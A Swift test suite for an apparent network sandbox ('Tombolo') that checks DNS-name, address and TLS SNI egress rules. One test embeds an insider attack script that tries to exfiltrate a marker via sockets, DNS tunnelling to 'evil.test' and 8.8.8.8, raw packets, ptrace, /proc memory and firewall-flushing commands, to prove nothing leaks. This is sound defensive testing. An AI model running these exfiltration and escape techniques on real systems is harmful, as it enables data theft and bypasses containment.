import Foundation
import XCTest

/// Policy by name, with real servers of names and of TLS: what a rule names works for every client, and nothing else leaves.
final class NamePolicyTests: XCTestCase {
  private static let directory = World.directory
  /// The names come from a server of this test's own.
  private static let run = World.run + " --dns 10.9.0.3"

  override class func setUp() {
    World.setUp(bigFile: false)
    let made = bash(
      """
      set -e; cd \(directory)
      ip -n \(World.server) addr add 10.9.0.3/24 dev v1
      long=$(printf 'x%.0s' $(seq 250))
      ip netns exec \(World.server) dnsmasq --no-resolv --no-hosts --listen-address=10.9.0.3 --bind-interfaces --local-ttl=2 \
        --host-record=ok.test,10.9.0.2,fd09::2 --host-record=other.test,10.9.0.2 --host-record=six.test,fd09::2 \
        --host-record=target.foreign,10.9.0.2 --cname=www.alias.test,target.foreign --txt-record=big.test,$long,$long,$long,$long,$long,$long \
        --host-record=rebind.test,10.9.0.2 --host-record=rebind.test,169.254.169.254 --host-record=rebind.test,127.0.0.1 \
        --pid-file=\(directory)/names.pid --user=root
      openssl req -x509 -newkey rsa:2048 -nodes -keyout key.pem -out cert.pem -days 2 -subj /CN=ok.test \
        -addext subjectAltName=DNS:ok.test,DNS:other.test 2>/dev/null
      chmod a+r key.pem cert.pem
      for port in 443 8443; do
        ip netns exec \(World.server) openssl s_server -accept 10.9.0.2:$port -cert cert.pem -key key.pem -www -quiet \
          >/dev/null 2>&1 & echo $! >> tls.pids
      done
      for i in $(seq 50); do ip netns exec \(World.host) curl -sk -o /dev/null --noproxy '*' https://10.9.0.2/ && break; sleep 0.1; done
      cp \(#filePath.components(separatedBy: "/Programs/")[0])/clients/{hello.py,fetch.sh} .
      """, timeout: 60)
    XCTAssertEqual(made.status, 0, made.errors)
  }

  override class func tearDown() {
    bash("cd \(directory) && for p in $(cat tls.pids names.pid); do kill $p; done")
    World.tearDown()
  }

  private func inEnclave(_ configuration: String, _ script: String, options: String = "") -> Outcome {
    bash(
      """
      cat > \(Self.directory)/policy.toml <<'X'
      \(configuration)
      X
      cat > \(Self.directory)/script.sh <<'X'
      . \(Self.directory)/fetch.sh
      \(script)
      X
      \(Self.run) --config \(Self.directory)/policy.toml \(options) -- bash \(Self.directory)/script.sh
      """)
  }

  private static let names = """
    [egress]
    default = "deny"
    allow = ["ok.test:8080", "*.alias.test", "six.test:8080", "rebind.test", "big.test"]
    [dns]
    hold = "1s"
    """

  /// Each client that there is gets what a rule names and is refused the rest at once, whatever server it asks and however.
  func testNamesAreAllowedAndRefused() {
    let outcome = inEnclave(
      Self.names,
      """
      fetch http://10.9.0.2:8080/file
      fetch http://ok.test:8080/file
      fetch http://10.9.0.2:8080/file
      fetch http://OK.Test.:8080/file
      fetch http://ok.test:8081/file
      fetch http://www.alias.test:8080/file
      fetch -6 http://six.test:8080/file
      fetch http://rebind.test:8080/file
      fetch http://other.test:8080/file
      dig +short @8.8.8.8 ok.test; dig +short +tcp @2606:4700::1111 ok.test
      dig @8.8.8.8 other.test | grep -o 'status: [A-Z]*'; dig +tcp @1.1.1.1 target.foreign | grep -o 'status: [A-Z]*'
      dig +short rebind.test
      dig +short big.test TXT | wc -c
      dig +short localhost; dig +short -x 127.0.0.1
      quick getent hosts other.test
      python3 -c 'import urllib.request as u; print(u.urlopen("http://ok.test:8080/file").read().decode(), end="")'
      quick python3 -c 'import urllib.request as u; u.urlopen("http://other.test:8080/file")'
      node -e 'fetch("http://ok.test:8080/file").then(r => r.text()).then(t => process.stdout.write(t))'
      quick node -e 'fetch("http://other.test:8080/file").then(r => 0)'
      sleep 3.5
      fetch http://10.9.0.2:8080/file
      """)
    XCTAssertEqual(
      outcome.output,
      """
      refused
      content-of-file
      content-of-file
      content-of-file
      refused
      content-of-file
      content-of-file
      content-of-file
      unknown
      10.9.0.2
      10.9.0.2
      status: REFUSED
      status: REFUSED
      10.9.0.2
      1518
      127.0.0.1
      localhost.
      getent 2
      content-of-file
      python3 1
      content-of-file
      node 1
      refused

      """, outcome.errors)
    for sentence in [
      "dns: other.test A denied: no rule of egress.allow names it",
      "egress to 10.9.0.2:8080 denied: no rule of egress.allow names it",
      "egress to 10.9.0.2:8081 (ok.test) denied: no rule of egress.allow names it",
      "dns: rebind.test A: taken out of the answer:",
    ] { XCTAssertTrue(outcome.errors.contains(sentence), "\(sentence): \(outcome.errors)") }
  }

  /// `deny` wins; fixed answers are policy's too; a name that is denied may be said not to exist.
  func testDenyFixedAnswersAndNXDOMAIN() {
    let outcome = inEnclave(
      """
      [egress]
      default = "allow"
      deny = ["other.test", "10.9.0.2:8080"]
      [dns]
      denied = "nxdomain"
      hosts = { "fixed.test" = ["10.9.0.2", "fd09::2"] }
      """,
      """
      grep fixed /etc/hosts
      dig +short fixed.test; dig +short fixed.test AAAA; dig +short -x 10.9.0.2
      dig other.test | grep -o 'status: [A-Z]*'
      fetch -4 http://fixed.test:8080/file
      fetch -6 http://fixed.test:8080/file
      fetch -6 http://ok.test:8080/file
      """)
    XCTAssertEqual(
      outcome.output,
      """
      10.9.0.2 fixed.test
      fd09::2 fixed.test
      10.9.0.2
      fd09::2
      fixed.test.
      status: NXDOMAIN
      refused
      content-of-file
      content-of-file

      """, outcome.errors)
    XCTAssertTrue(outcome.errors.contains("dns: other.test A denied: egress.deny has \"other.test\""), outcome.errors)
    XCTAssertTrue(
      outcome.errors.contains("egress to 10.9.0.2:8080 (fixed.test) denied: egress.deny has \"10.9.0.2:8080\""),
      outcome.errors)
  }

  private static func sni(_ word: String) -> String {
    "[egress]\ndefault = \"deny\"\nallow = [\"ok.test\"]\nsni = \"\(word)\"\nsni_ports = [443, 8443, 8080]"
  }

  /// Another name at the same address is refused by what the client asks the server for; the bytes arrive as they were sent.
  func testTheNameThatAClientAsksFor() {
    let script = """
      dig ok.test >/dev/null
      tls() { curl -sSk --noproxy '*' --max-time 10 -o /dev/null "$@" 2>/dev/null && echo served || echo refused; }
      tls https://ok.test/
      tls https://ok.test:8443/
      tls --resolve other.test:443:10.9.0.2 https://other.test/
      tls https://10.9.0.2/
      say() { if "$@" </dev/null 2>/dev/null | grep -q 'BEGIN CERT'; then echo certificate; else echo nothing; fi; }
      say openssl s_client -connect ok.test:443 -servername ok.test
      say openssl s_client -connect ok.test:443 -servername other.test
      say openssl s_client -connect ok.test:443 -noservername
      for way in whole bytes records pq; do python3 \(Self.directory)/hello.py $way ok.test 443; python3 \(Self.directory)/hello.py $way other.test 443; done
      python3 \(Self.directory)/hello.py whole - 8443
      curl -sS --noproxy '*' http://ok.test:8080/file 2>/dev/null || echo refused
      """
    let required = inEnclave(Self.sni("require"), script)
    let lines = ["whole", "bytes", "records", "pq"].map { "\($0) ok.test handshake\n\($0) other.test reset\n" }.joined()
    XCTAssertEqual(
      required.output,
      "served\nserved\nrefused\nrefused\ncertificate\nnothing\nnothing\n" + lines
        + "whole - reset\nrefused\n", required.errors)
    for sentence in [
      "egress to 10.9.0.2:443 (other.test) denied: the client asks for other.test: no rule of egress.allow names it",
      "egress to 10.9.0.2:443 (ok.test) denied: the client names no server (egress.sni = \"require\")",
    ] { XCTAssertTrue(required.errors.contains(sentence), "\(sentence): \(required.errors)") }
    let checked = inEnclave(Self.sni("check"), script)
    XCTAssertEqual(
      checked.output,
      "served\nserved\nrefused\nserved\ncertificate\nnothing\ncertificate\n" + lines
        + "whole - handshake\ncontent-of-file\n", checked.errors)
  }

  /// The host is told for which name a connection is.
  func testTheHostLogsTheName() {
    let outcome = inEnclave(
      Self.names, "curl -sS --noproxy '*' http://ok.test:8080/nothing >/dev/null; curl -sS http://ok.test:8080/file",
      options: "-vv")
    XCTAssertTrue(outcome.output.hasSuffix("content-of-file\n"), outcome.errors)
    XCTAssertTrue(outcome.errors.contains("connection to 10.9.0.2:8080 (ok.test)"), outcome.errors)
  }

  /// One allowed name, and somebody inside, root, who knows Tombolo and tries everything: no byte of it is on the wire, but what
  /// goes to that name.
  func testNothingGoesRound() {
    let outcome = bash(
      """
      cd \(Self.directory)
      cat > one.toml <<'X'
      [egress]
      default = "deny"
      allow = ["ok.test:8080"]
      X
      cat > attack.py <<'X'
      import ctypes, glob, os, socket, struct, subprocess, sys
      MARK = b"EXFILTRATED"
      def attempt(what, action):
          try: action(); print("tried", what, flush=True)
          except Exception as error: print("failed", what, type(error).__name__, flush=True)
      def tcp(address, port, family=socket.AF_INET, data=MARK):
          s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(3); s.connect((address, port)); s.sendall(data); s.recv(100)
      def udp(address, port, family=socket.AF_INET, data=MARK):
          s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(1); s.sendto(data, (address, port)); s.recv(512)
      def query(*labels): return b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + b"".join(bytes([len(l)]) + l for l in labels) + b"\\0\\0\\1\\0\\1"
      socket.getaddrinfo("ok.test", 8080)
      for port in (22, 53, 80, 443, 8081, 9999): attempt("tcp", lambda: tcp("10.9.0.2", port))
      for port in (53, 443, 123): attempt("udp", lambda: udp("10.9.0.2", port))
      attempt("tcp6", lambda: tcp("fd09::2", 9999, socket.AF_INET6)); attempt("udp6", lambda: udp("fd09::2", 9999, socket.AF_INET6))
      attempt("mapped", lambda: tcp("::ffff:10.9.0.3", 8080, socket.AF_INET6)); attempt("tcp of another address", lambda: tcp("10.9.0.3", 8080))
      attempt("dns over tcp", lambda: tcp("10.9.0.3", 53, data=struct.pack("!H", 40) + query(MARK, b"evil", b"test")))
      for target in ("10.9.0.3", "8.8.8.8"):
          attempt("dns name", lambda: udp(target, 53, data=query(MARK, b"evil", b"test")))
          attempt("dns name beside", lambda: udp(target, 53, data=query(MARK, b"ok", b"test")))
          attempt("dns two questions", lambda: udp(target, 53, data=query(b"ok", b"test")[:5] + b"\\2" + query(b"ok", b"test")[6:] + query(MARK, b"test")[12:]))
          attempt("dns behind the question", lambda: udp(target, 53, data=query(b"ok", b"test") + MARK))
      for port in (61001, 61053): attempt("proxy", lambda: tcp("127.0.0.1", port, data=struct.pack("!H", 40) + query(MARK, b"evil", b"test")))
      attempt("forwarder", lambda: udp("127.0.0.1", 61053, data=query(MARK, b"evil", b"test")))
      def raw(protocol, packet):
          s = socket.socket(socket.AF_INET, socket.SOCK_RAW, protocol); s.sendto(packet, ("10.9.0.2", 0))
      attempt("icmp", lambda: raw(socket.IPPROTO_ICMP, struct.pack("!BBHHH", 8, 0, 0, 1, 1) + MARK))
      attempt("raw ip", lambda: raw(socket.IPPROTO_RAW, bytes.fromhex("4500002800000000401100000a0900010a090002") + MARK))
      attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3))
      attempt("vsock", lambda: socket.socket(40, socket.SOCK_STREAM).connect((2, 7766)))
      hello = b"TMBL\\2\\1\\0\\x0a" + bytes(32) + b"\\4" + struct.pack("!H", 9999) + bytes([10, 9, 0, 2]) + bytes(3) + b"\\0\\0\\0\\x0b" + MARK
      def unix(path):
          s = socket.socket(socket.AF_UNIX); s.settimeout(2); s.connect(path); s.sendall(hello); print(s.recv(8))
      for path in glob.glob("/run/tombolo/host/*"): attempt("transport", lambda: unix(path))
      for pid in filter(str.isdigit, os.listdir("/proc")):
          if int(pid) > 2 and int(pid) != os.getpid(): continue
          if int(pid) == os.getpid(): continue
          attempt("mem", lambda: open(f"/proc/{pid}/mem", "r+b")); attempt("fd", lambda: os.open(f"/proc/{pid}/fd/5", os.O_RDWR))
          def trace():
              if ctypes.CDLL(None, use_errno=True).ptrace(16, int(pid), 0, 0) != 0: raise OSError(ctypes.get_errno())
          attempt("ptrace", trace)
      for words in ("ip link add d0 type dummy", "ip addr add 10.9.0.77/24 dev lo", "ip route add 10.9.0.0/24 dev lo table 7",
                    "nft flush ruleset", "iptables -t nat -F", "unshare -n true", "nsenter -t 1 -n true"):
          attempt(words, lambda: subprocess.run(words.split(), check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
      for port in (9999, 8081): attempt("tcp again", lambda: tcp("10.9.0.2", port))
      s = socket.create_connection(("ok.test", 8080), 5); s.sendall(b"GET /ALLOWED HTTP/1.0\\r\\n\\r\\n"); print("allowed", s.recv(12).decode(), flush=True)
      X
      cat > listen.py <<'X'
      import selectors, socket, sys
      sockets = selectors.DefaultSelector()
      for port in (22, 80, 8081, 9999, 123):
          for family in (socket.AF_INET, socket.AF_INET6):
              for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
                  s = socket.socket(family, kind)
                  if family == socket.AF_INET6: s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
                  s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("", port))
                  if kind == socket.SOCK_STREAM: s.listen()
                  sockets.register(s, selectors.EVENT_READ, kind)
      print("listening", flush=True)
      while True:
          for key, _ in sockets.select():
              if key.data == socket.SOCK_STREAM: key.fileobj.accept(); print("connected", flush=True)
              else: print(key.fileobj.recv(100), flush=True)
      X
      ip netns exec \(World.server) tcpdump -i v1 -U -s 0 -w wire.pcap >/dev/null 2>tcpdump.err & capture=$!
      ip netns exec \(World.server) python3 listen.py > heard 2>&1 & listener=$!
      for i in $(seq 100); do grep -qs listening heard && grep -qs 'listening on' tcpdump.err && break; sleep 0.1; done
      \(Self.run) --config one.toml -- python3 attack.py; status=$?
      ip netns exec \(World.host) curl -sS --noproxy '*' -o /dev/null http://10.9.0.2:8080/LAST
      for i in $(seq 50); do grep -aqs LAST wire.pcap && break; sleep 0.1; done
      kill $capture $listener
      echo "heard: $(grep -vc listening heard)"; echo "marks: $(grep -ac EXFILTRATED wire.pcap)"; echo "allowed: $(grep -ac 'GET /ALLOWED' wire.pcap)"
      exit $status
      """)
    XCTAssertEqual(outcome.status, 0, outcome.errors)
    XCTAssertTrue(
      outcome.output.hasSuffix("allowed HTTP/1.1 404\nheard: 0\nmarks: 0\nallowed: 1\n"),
      outcome.output + outcome.errors)
    // It did try.
    XCTAssertGreaterThan(outcome.output.split(separator: "\n").count, 50, outcome.output)
  }

  /// The parent's owner bounds an enclave that allows itself everything, by name and by address; each side's log says that it
  /// was that side.
  func testTheHostHasRulesOfItsOwn() {
    let outcome = bash(
      """
      cat > \(Self.directory)/host.toml <<'X'
      [egress]
      default = "deny"
      allow = ["ok.test:8080"]
      [dns]
      denied = "nxdomain"
      X
      \(Self.run) --policy \(Self.directory)/host.toml -- bash -c '. \(Self.directory)/fetch.sh
        fetch http://10.9.0.2:8080/file; fetch http://ok.test:8080/file; fetch http://10.9.0.2:8080/file; fetch http://ok.test:8081/file
        fetch http://other.test:8080/file; dig www.alias.test | grep -o "status: [A-Z]*"'
      """)
    XCTAssertEqual(
      outcome.output, "refused\ncontent-of-file\ncontent-of-file\nrefused\nunknown\nstatus: NXDOMAIN\n", outcome.errors)
    for sentence in [
      "tombolo: connection to 10.9.0.2:8080 denied: no rule of egress.allow names it",
      "tombolo: connection to 10.9.0.2:8081 (ok.test) denied: no rule of egress.allow names it",
      "tombolo: name: other.test A denied: no rule of egress.allow names it",
    ] { XCTAssertTrue(outcome.errors.contains(sentence), "\(sentence): \(outcome.errors)") }
  }
}
